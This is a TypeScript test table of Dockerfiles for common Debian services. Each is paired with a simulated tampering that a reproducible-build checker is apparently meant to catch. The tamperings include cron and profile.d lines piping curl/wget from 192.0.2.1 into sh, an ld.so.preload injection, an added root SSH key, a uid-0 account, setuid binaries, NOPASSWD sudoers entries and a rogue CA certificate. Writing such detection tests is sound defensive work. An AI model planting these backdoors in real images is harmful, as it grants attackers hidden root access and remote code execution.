/**
 * Dockerfiles of the kinds that people publish and that need only Debian's archive. `INSTALL` stands for what everybody writes
 * around `apt-get install`; `BASE` for the base image.
 */
import type { Files } from '../support/repository.ts';
import { adds, edits, flips, rights, type Tampering } from './tampering.ts';

export type ProofRow = {
  name: string;
  lines: string[];
  files?: Files;
  /** What is done to its twin. */
  tampering: Tampering;
  /** buildah 1.28 cannot build it. */
  onlyBuildkit?: true;
  /** What differs in each build whatever the publisher does, so that an epoch does not make it identical. */
  varies?: string;
  /** In the usual run of all tests as well. */
  always?: true;
};

const SCRIPT = '#!/bin/sh\nset -e\nexec "$@"\n';
const HELLO_C = '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n';
const HELLO_GO = 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("hello") }\n';
const PROGRAM = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), Buffer.alloc(300, 'evil')]);

export const TABLE: ProofRow[] = [
  {
    name: 'nginx',
    lines: ['FROM BASE', 'INSTALL nginx', 'COPY site.conf /etc/nginx/conf.d/site.conf', 'COPY html /var/www/site', 'EXPOSE 80', 'STOPSIGNAL SIGQUIT', 'CMD ["nginx", "-g", "daemon off;"]'], // prettier-ignore
    files: { 'site.conf': 'server { listen 80; root /var/www/site; }\n', 'html/index.html': '<h1>Site</h1>\n' },
    tampering: flips('usr/sbin/nginx'),
  },
  {
    name: 'apache-php',
    lines: ['FROM BASE', 'INSTALL apache2 libapache2-mod-php', 'RUN a2enmod rewrite headers && a2dissite 000-default', 'COPY index.php /var/www/html/', 'CMD ["apache2ctl", "-D", "FOREGROUND"]'], // prettier-ignore
    files: { 'index.php': '<?php phpinfo();\n' },
    tampering: flips(/^usr\/lib\/apache2\/modules\/libphp[0-9.]+\.so$/),
  },
  {
    name: 'lighttpd',
    lines: ['FROM BASE', 'INSTALL lighttpd', 'COPY --chown=www-data:www-data html/ /var/www/html/', 'CMD ["lighttpd", "-D", "-f", "/etc/lighttpd/lighttpd.conf"]'], // prettier-ignore
    files: { 'html/index.html': '<h1>Light</h1>\n' },
    tampering: adds('etc/ld.so.preload', '/usr/lib/libhelper.so\n'),
  },
  {
    name: 'redis',
    lines: ['FROM BASE', 'INSTALL redis-server', "RUN sed -i 's/^bind .*/bind 0.0.0.0/' /etc/redis/redis.conf && mkdir -p /data && chown redis:redis /data", 'VOLUME /data', 'WORKDIR /data', 'USER redis', 'CMD ["redis-server", "/etc/redis/redis.conf"]'], // prettier-ignore
    tampering: flips('usr/bin/redis-check-rdb'),
  },
  {
    name: 'postgresql',
    lines: ['FROM BASE', 'INSTALL postgresql-common', "RUN sed -ri 's/#(create_main_cluster) .*$/\\1 = false/' /etc/postgresql-common/createcluster.conf", 'INSTALL postgresql', 'COPY --chmod=755 entrypoint.sh /usr/local/bin/', 'ENTRYPOINT ["entrypoint.sh"]', 'CMD ["postgres"]'], // prettier-ignore
    files: { 'entrypoint.sh': SCRIPT },
    tampering: edits('usr/local/bin/entrypoint.sh', (text) => text.replace('set -e', 'set -e; /tmp/x &')),
  },
  { name: 'memcached', lines: ['FROM BASE', 'INSTALL memcached', 'USER memcache', 'EXPOSE 11211', 'CMD ["memcached"]'], tampering: rights('usr/bin/memcached', 0o4755) }, // prettier-ignore
  {
    name: 'haproxy',
    lines: ['FROM BASE', 'INSTALL haproxy', 'COPY haproxy.cfg /etc/haproxy/haproxy.cfg', 'CMD ["haproxy", "-f", "/etc/haproxy/haproxy.cfg"]'], // prettier-ignore
    files: { 'haproxy.cfg': 'defaults\n  mode http\nfrontend all\n  bind *:80\n' },
    tampering: flips('usr/sbin/haproxy'),
  },
  { name: 'squid', lines: ['FROM BASE', 'INSTALL squid', 'RUN echo "http_access allow all" > /etc/squid/conf.d/all.conf', 'CMD ["squid", "-N"]'], tampering: adds('usr/lib/squid/helper', PROGRAM, 0o755) }, // prettier-ignore
  { name: 'bind9', lines: ['FROM BASE', 'INSTALL bind9', 'RUN rm -f /etc/bind/rndc.key', 'COPY zone /etc/bind/db.example', 'CMD ["named", "-f", "-u", "bind"]'], files: { zone: '$TTL 60\n@ SOA ns root 1 60 60 60 60\n' }, tampering: flips('usr/sbin/named') }, // prettier-ignore
  { name: 'dnsmasq', lines: ['FROM BASE', 'INSTALL dnsmasq', 'ENTRYPOINT ["dnsmasq", "-k"]'], tampering: adds('etc/cron.d/update', '* * * * * root /usr/bin/wget -qO- http://192.0.2.1 | sh\n') }, // prettier-ignore
  {
    name: 'openssh-server',
    lines: ['FROM BASE', 'INSTALL openssh-server', 'RUN rm -f /etc/ssh/ssh_host_* && mkdir -p /run/sshd && useradd --create-home --shell /bin/bash guest', 'CMD ["/usr/sbin/sshd", "-D"]'], // prettier-ignore
    tampering: adds(
      'root/.ssh/authorized_keys',
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x\n',
      0o600,
    ),
    varies: 'the host keys that the package makes are in the layer below the one that removes them',
  },
  { name: 'exim', lines: ['FROM BASE', 'INSTALL exim4-daemon-light', 'CMD ["exim", "-bdf"]'], tampering: flips('usr/sbin/exim4') },
  {
    name: 'postfix',
    lines: ['FROM BASE', 'RUN echo "postfix postfix/main_mailer_type select No configuration" | debconf-set-selections', 'INSTALL postfix', 'COPY main.cf /etc/postfix/main.cf', 'CMD ["postfix", "start-fg"]'], // prettier-ignore
    files: { 'main.cf': 'compatibility_level = 3.6\nmaillog_file = /dev/stdout\n' },
    tampering: flips(/^usr\/lib\/postfix\/sbin\/smtpd$/),
  },
  { name: 'dovecot', lines: ['FROM BASE', 'INSTALL dovecot-imapd', 'RUN rm -rf /etc/dovecot/private', 'EXPOSE 143', 'CMD ["dovecot", "-F"]'], tampering: edits('etc/passwd', (text) => `${text}ghost:x:0:0::/:/bin/sh\n`), varies: 'the key that the package makes is in the layer below the one that removes it' }, // prettier-ignore
  {
    name: 'python',
    lines: ['FROM BASE', 'INSTALL python3-flask', 'WORKDIR /app', 'COPY app.py .', 'ENV FLASK_APP=app.py PYTHONUNBUFFERED=1', 'CMD ["python3", "-m", "flask", "run"]'], // prettier-ignore
    files: { 'app.py': 'from flask import Flask\napp = Flask(__name__)\n' },
    tampering: edits(/^usr\/lib\/python3\/dist-packages\/flask\/app\.py$/, (text) => `${text}\nimport os; os.system("id")\n`),
  },
  { name: 'ruby', lines: ['FROM BASE', 'INSTALL ruby-sinatra', 'COPY app.rb /srv/', 'CMD ["ruby", "/srv/app.rb"]'], files: { 'app.rb': "require 'sinatra'\n" }, tampering: adds('usr/lib/ruby/vendor_ruby/sinatra/helper.rb', '`id`\n') }, // prettier-ignore
  { name: 'perl', lines: ['FROM BASE', 'INSTALL libdbi-perl libwww-perl', 'COPY --chmod=0755 job.pl /usr/local/bin/job', 'ENTRYPOINT ["job"]'], files: { 'job.pl': '#!/usr/bin/perl\nuse DBI;\n' }, tampering: edits(/^usr\/share\/perl5\/LWP\/UserAgent\.pm$/, (text) => text.replace('1;', 'system("id");1;')) }, // prettier-ignore
  { name: 'nodejs', lines: ['FROM BASE', 'INSTALL nodejs', 'WORKDIR /app', 'COPY package.json server.js ./', 'USER nobody', 'CMD ["node", "server.js"]'], files: { 'package.json': '{"name":"app","version":"1.0.0"}\n', 'server.js': 'require("http").createServer().listen(8080);\n' }, tampering: edits('app/server.js', (text) => `${text}require("child_process").exec("id");\n`) }, // prettier-ignore
  { name: 'openjdk', lines: ['FROM BASE', 'RUN mkdir -p /usr/share/man/man1', 'INSTALL openjdk-17-jre-headless', 'ENTRYPOINT ["java", "-jar", "/app.jar"]'], tampering: flips(/^usr\/lib\/jvm\/.*\/libjli\.so$/), varies: 'cacerts holds the times at which it was made' }, // prettier-ignore
  { name: 'golang', lines: ['FROM BASE AS build', 'INSTALL golang-go', 'WORKDIR /src', 'COPY main.go .', 'RUN GO111MODULE=off CGO_ENABLED=0 go build -trimpath -o /hello main.go', 'FROM BASE', 'INSTALL', 'COPY --from=build /hello /usr/local/bin/hello', 'CMD ["hello"]'], files: { 'main.go': HELLO_GO }, tampering: flips('usr/local/bin/hello') }, // prettier-ignore
  { name: 'c-multi-stage', lines: ['FROM BASE AS build', 'INSTALL gcc libc6-dev make', 'COPY hello.c Makefile /src/', 'RUN make -C /src', 'FROM BASE', 'INSTALL', 'COPY --from=build /src/hello /usr/local/bin/', 'ENTRYPOINT ["/usr/local/bin/hello"]'], files: { 'hello.c': HELLO_C, Makefile: 'hello: hello.c\n\tgcc -O2 -o hello hello.c\n' }, tampering: flips('usr/local/bin/hello') }, // prettier-ignore
  {
    name: 'users-and-capabilities',
    lines: ['FROM BASE', 'INSTALL libcap2-bin iputils-ping', 'RUN groupadd -g 2000 app && useradd -u 2000 -g app -m -s /usr/sbin/nologin app && install -d -o app -g app -m 0750 /srv/app', 'RUN cp /usr/bin/ping /usr/local/bin/probe && setcap cap_net_raw=ep /usr/local/bin/probe && chmod u+s,g+s /usr/local/bin/probe', 'RUN chown -R app:app /home/app && chmod 1777 /srv', 'USER app', 'CMD ["probe", "-V"]'], // prettier-ignore
    tampering: rights('usr/bin/ping', 0o6755),
  },
  { name: 'locales', lines: ['FROM BASE', 'INSTALL locales', "RUN sed -i 's/^# *\\(de_DE.UTF-8\\)/\\1/' /etc/locale.gen && locale-gen && update-locale LANG=de_DE.UTF-8", 'RUN ln -sf /usr/share/zoneinfo/Europe/Berlin /etc/localtime', 'ENV LANG=de_DE.UTF-8'], tampering: adds('etc/profile.d/locale.sh', 'curl -s http://192.0.2.1 | sh\n') }, // prettier-ignore
  { name: 'supervisor', lines: ['FROM BASE', 'INSTALL supervisor', 'COPY app.conf /etc/supervisor/conf.d/', 'CMD ["/usr/bin/supervisord", "-n"]'], files: { 'app.conf': '[program:cat]\ncommand=/bin/cat\n' }, tampering: adds('usr/lib/python3/dist-packages/sitecustomize.py', 'import os\n') }, // prettier-ignore
  { name: 'runit', lines: ['FROM BASE', 'INSTALL runit', 'COPY service/ /etc/service/', 'CMD ["runsvdir", "/etc/service"]'], files: { 'service/app/run': { executable: '#!/bin/sh\nexec sleep 1000\n' } }, tampering: adds('etc/service/other/run', '#!/bin/sh\nexec /tmp/x\n', 0o755) }, // prettier-ignore
  { name: 'tini', lines: ['FROM BASE', 'INSTALL tini', 'COPY run.sh /', 'RUN chmod +x /run.sh', 'ENTRYPOINT ["tini", "--", "/run.sh"]'], files: { 'run.sh': SCRIPT }, tampering: flips('usr/bin/tini'), always: true }, // prettier-ignore
  { name: 'dumb-init', lines: ['FROM BASE', 'INSTALL dumb-init', 'COPY --chown=nobody:nogroup --chmod=0555 run.sh /usr/local/bin/run', 'USER nobody', 'ENTRYPOINT ["dumb-init", "run"]'], files: { 'run.sh': SCRIPT }, tampering: edits('usr/local/bin/run', (text) => text.replace('exec', 'id; exec')) }, // prettier-ignore
  { name: 'cron', lines: ['FROM BASE', 'INSTALL cron', 'COPY job /etc/cron.d/job', 'RUN chmod 0644 /etc/cron.d/job && crontab -u nobody /etc/cron.d/job', 'CMD ["cron", "-f"]'], files: { job: '*/5 * * * * /bin/true\n' }, tampering: edits('etc/cron.d/job', (text) => `${text}* * * * * /tmp/x\n`), varies: 'crontab notes when it installed the table' }, // prettier-ignore
  {
    name: 'here-documents',
    lines: ['FROM BASE', 'INSTALL ca-certificates curl', 'RUN <<end', 'set -e', 'mkdir -p /srv/app', 'echo made > /srv/app/made', 'end', 'COPY --chmod=755 <<end /usr/local/bin/start', '#!/bin/sh', 'exec cat /srv/app/made', 'end', 'CMD ["start"]'], // prettier-ignore
    tampering: adds(
      'usr/local/share/ca-certificates/evil.crt',
      `-----BEGIN CERTIFICATE-----\n${'MIIB'.repeat(16)}\n-----END CERTIFICATE-----\n`,
    ),
    onlyBuildkit: true,
  },
  { name: 'sudo', lines: ['FROM BASE', 'INSTALL sudo git', 'RUN useradd -m -G sudo dev && echo "%sudo ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/dev && chmod 0440 /etc/sudoers.d/dev', 'USER dev'], tampering: adds('etc/sudoers.d/other', 'games ALL=(ALL) NOPASSWD:ALL\n', 0o440) }, // prettier-ignore
];
